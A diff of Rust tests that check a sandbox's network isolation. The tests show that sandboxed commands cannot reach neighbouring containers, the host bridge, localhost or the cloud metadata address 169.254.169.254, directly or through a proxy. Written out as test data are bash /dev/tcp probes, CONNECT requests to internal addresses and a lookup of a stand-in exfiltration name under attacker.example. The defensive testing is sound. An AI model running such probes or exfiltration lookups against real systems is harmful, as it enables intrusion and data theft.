@@ -5,8 +5,10 @@ use std::net::TcpListener;
 use std::process::Command;
 
 use crate::internet::{Internet, SERVER, bash, text};
-use crate::machine::{Feature, image, is_there};
-use crate::{ask, everywhere, first_line};
+use crate::machine::{Caller, Feature, Runner, callers, image, is_there, runners};
+use crate::place::Place;
+use crate::secrets::second;
+use crate::{ask, everywhere, everywhere_but_natively, first_line, ready};
 
 /// Everything that could be sent without a proxy: each line says what has gone.
 const DIRECT: &str = r#"
@@ -170,32 +172,71 @@ fn no_name_carries_anything_out() {
     });
 }
 
-/// A container of somebody else, on the bridge of the engine.
-struct Neighbour(String);
+/// A container of somebody else, on the bridge of an engine that is called so.
+struct Neighbour<'a> {
+    engine: &'a dyn Fn(&[&str]) -> String,
+    id: String,
+}
 
-impl Neighbour {
-    fn start() -> Self {
+impl<'a> Neighbour<'a> {
+    fn start(engine: &'a dyn Fn(&[&str]) -> String) -> Self {
         let server = ["python3", "-m", "http.server", "8000"];
-        let neighbour = Self(docker(&[&["run", "--detach", "--rm", &image()][..], &server].concat()));
-        assert!(!neighbour.0.is_empty());
-        neighbour
+        let id = engine(&[&["run", "--detach", "--rm", &image()][..], &server].concat());
+        assert!(!id.is_empty());
+        Self { engine, id }
     }
 
     fn address(&self, field: &str) -> String {
         let format = format!("{{{{range .NetworkSettings.Networks}}}}{{{{.{field}}}}}{{{{end}}}}");
-        docker(&["inspect", "--format", &format, &self.0])
+        (self.engine)(&["inspect", "--format", &format, &self.id])
+    }
+
+    /// Checks that any other container of this engine reaches hosts, and returns the script that tries it.
+    fn control(&self, hosts: &[String], who: &str) -> String {
+        let direct = hosts.iter().map(|host| {
+            let path = host.replace(':', "/");
+            format!("until (exec 3<>/dev/tcp/{path}) 2>/dev/null; do [ $((attempt++)) -lt ${{1:-1}} ] || {{ echo \"not {host}\"; break; }}; done; attempt=0; echo tried")
+        });
+        let direct = direct.collect::<Vec<_>>().join("\n");
+        let other = ["run", "--rm", &image(), "bash", "-c", &direct, "bash", "100000"];
+        assert_eq!((self.engine)(&other), vec!["tried"; hosts.len()].join("\n"), "{who}: the control");
+        direct
     }
 }
 
-impl Drop for Neighbour {
+impl Drop for Neighbour<'_> {
     fn drop(&mut self) {
-        docker(&["kill", &self.0]);
+        (self.engine)(&["kill", &self.id]);
     }
 }
 
-fn docker(words: &[&str]) -> String {
-    let output = Command::new("docker").args(words).output().unwrap();
+/// Returns what a command of an engine prints.
+fn printed(mut command: Command) -> String {
+    let output = command.output().unwrap();
     String::from_utf8_lossy(&output.stdout).trim().to_owned()
+}
+
+/// Checks that a sandbox reaches none of these hosts, by itself or by way of the proxy, without a list and with one.
+fn none_is_reached(place: &Place, hosts: &[String], direct: &str, who: &str) {
+    let not = hosts.iter().map(|host| format!("not {host}\ntried\n")).collect::<Vec<_>>().concat();
+    let closed = tried(place, hosts, direct, &[]);
+    assert!(
+        closed.starts_with(&not) && closed.matches("61080: Connection refused").count() == hosts.len(),
+        "{who}: {closed}"
+    );
+    let refused = tried(place, hosts, direct, &["--allow-host=*.example.org".to_owned()]);
+    let answers = "HTTP/1.1 403 Forbidden\n".repeat(hosts.len());
+    assert_eq!(refused.replace('\r', ""), not + &answers, "{who}");
+}
+
+/// Tries to reach hosts from a sandbox in both ways. Its client is on this host itself, whose bridges these are.
+fn tried(place: &Place, hosts: &[String], direct: &str, flags: &[String]) -> String {
+    let proxied = hosts.iter().map(|host| {
+        let request = format!("CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n");
+        format!("({}) 2>&1", first_line(&request))
+    });
+    let script = std::iter::once(direct.to_owned()).chain(proxied).collect::<Vec<_>>().join("\n");
+    text(&place.inside(flags, &bash(&script)).output().unwrap())
 }
 
 #[test]
@@ -204,39 +245,89 @@ fn neither_containers_nor_their_bridge_are_reached() {
     if !is_there(Feature::Docker, test) {
         return;
     }
-    let (neighbour, host) = (Neighbour::start(), TcpListener::bind("0.0.0.0:0").unwrap());
+    let docker = |words: &[&str]| {
+        let mut docker = Command::new("docker");
+        docker.args(words);
+        printed(docker)
+    };
+    let (neighbour, host) = (Neighbour::start(&docker), TcpListener::bind("0.0.0.0:0").unwrap());
     let bridge = format!("{}:{}", neighbour.address("Gateway"), host.local_addr().unwrap().port());
     let hosts = [format!("{}:8000", neighbour.address("IPAddress")), bridge];
-    let direct = hosts.each_ref().map(|host| {
-        let path = host.replace(':', "/");
-        format!("until (exec 3<>/dev/tcp/{path}) 2>/dev/null; do [ $((attempt++)) -lt ${{1:-1}} ] || {{ echo \"not {host}\"; break; }}; done; attempt=0")
-    });
-    let direct = direct.join("\n");
-    // The control: any other container reaches both.
-    let other = ["run", "--rm", &image(), "bash", "-c", &direct, "bash", "100000"];
-    assert_eq!(docker(&other), "", "the control");
+    let direct = neighbour.control(&hosts, "Docker");
     everywhere(test, |place, _, who| {
-        let proxied = hosts.each_ref().map(|host| {
-            let request = format!("CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n");
-            format!("({}) 2>&1", first_line(&request))
-        });
-        let script = [&[direct.clone()][..], &proxied].concat().join("\n");
-        // The client is on this host itself, whose bridge it is.
-        let run = |flags: &[String]| text(&place.inside(flags, &bash(&script)).output().unwrap());
-        let not = hosts.each_ref().map(|host| format!("not {host}\n")).concat();
-        let closed = run(&[]);
-        assert!(
-            closed.starts_with(&not) && closed.matches("61080: Connection refused").count() == 2,
-            "{who}: {closed}"
-        );
-        let refused = run(&["--allow-host=*.example.org".to_owned()]);
-        assert_eq!(refused.replace('\r', ""), not.clone() + &"HTTP/1.1 403 Forbidden\n".repeat(2), "{who}");
+        none_is_reached(place, &hosts, &direct, who);
         // The proxy could: where rules name just these addresses, it does, and there is no other way then either.
-        let allowed = run(&hosts.each_ref().map(|host| format!("--allow-host={host}")));
+        let not = hosts.each_ref().map(|host| format!("not {host}\ntried\n")).concat();
+        let flags = hosts.each_ref().map(|host| format!("--allow-host={host}"));
+        let allowed = tried(place, &hosts, &direct, &flags);
         assert!(
             allowed.starts_with(&not) && allowed.matches("HTTP/1.1 200 ").count() == 2,
             "{who}: {allowed}"
         );
+    });
+}
+
+#[test]
+fn containers_of_its_own_engine_are_not_reached() {
+    let test = "containers of the same engine";
+    if !is_there(Feature::Root, test) {
+        return;
+    }
+    let all = callers(test).into_iter();
+    let all = all.flat_map(|caller| runners(caller, test).into_iter().map(move |runner| (caller, runner)));
+    for (caller, runner) in all {
+        let program = match (runner, caller) {
+            (Runner::Docker | Runner::RootlessDocker, _) => "docker",
+            (Runner::Podman, Caller::Root) => "podman",
+            // Podman of a normal user has no bridge: each container has a network of its own.
+            (Runner::Podman, Caller::Normal) | (Runner::Native, _) => continue,
+        };
+        let place = Place::on(caller, runner);
+        let engine = |words: &[&str]| printed(place.outside(&[&[program], words].concat()));
+        let neighbour = Neighbour::start(&engine);
+        let who = format!("in {runner:?} by {caller:?}");
+        let hosts = [format!("{}:8000", neighbour.address("IPAddress"))];
+        let direct = neighbour.control(&hosts, &who);
+        none_is_reached(&place, &hosts, &direct, &who);
+    }
+}
+
+#[test]
+fn a_second_command_has_no_other_way_out() {
+    everywhere_but_natively("ways out of a second command", |place, internet, who| {
+        let name = "data.labels.attacker.example";
+        let inward = ["127.0.0.1:8080", "169.254.169.254:80", "[::1]:8080", "inward.example.org:8080"];
+        let connect = inward.map(|host| {
+            let request =
+                format!("CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n");
+            format!("({}) 2>&1", first_line(&request))
+        });
+        let ask = format!("python3 - {name} 127.0.0.53 203.0.113.1 {SERVER} <<'END'\n{ASK}\nEND");
+        let script = [DIRECT, &ask, &connect.join("\n")].join("\n");
+        for (number, flags) in [&[][..], &["--allow-host=*.example.org:8080"]].into_iter().enumerate() {
+            let sandbox = format!("way{number}of{}", std::process::id());
+            let named = format!("--name={sandbox}");
+            let flags = [&[&*named][..], flags].concat();
+            let first = place.inside(&flags, &["sh", "-c", "echo ready; cat"]);
+            let mut first = ready::start(&mut internet.command(&first));
+            let said = text(&second(place, &[], &sandbox, &script)).replace('\r', "");
+            let (direct, proxied) = said.split_once("done\nasked\n").unwrap_or_default();
+            assert_eq!(direct, "", "{who} with {flags:?}: {said}");
+            let (answer, control) = match number {
+                0 => ("61080: Connection refused", false),
+                _ => ("HTTP/1.1 403 Forbidden", true),
+            };
+            assert_eq!(proxied.matches(answer).count(), inward.len(), "{who} with {flags:?}: {said}");
+            // The control: the rule is what decides, and the second command is under it.
+            let page =
+                "GET http://up.example.org:8080/ HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n";
+            let served = text(&second(place, &[], &sandbox, &crate::ask(page))).contains("served GET /");
+            assert_eq!(served, control, "{who} with {flags:?}");
+            drop(first.stdin.take());
+            assert!(first.wait().unwrap().success(), "{who}");
+        }
+        let came = internet.requests();
+        assert!(!came.iter().any(|line| line.ends_with(name)), "{who}: {came:?}");
     });
 }
 
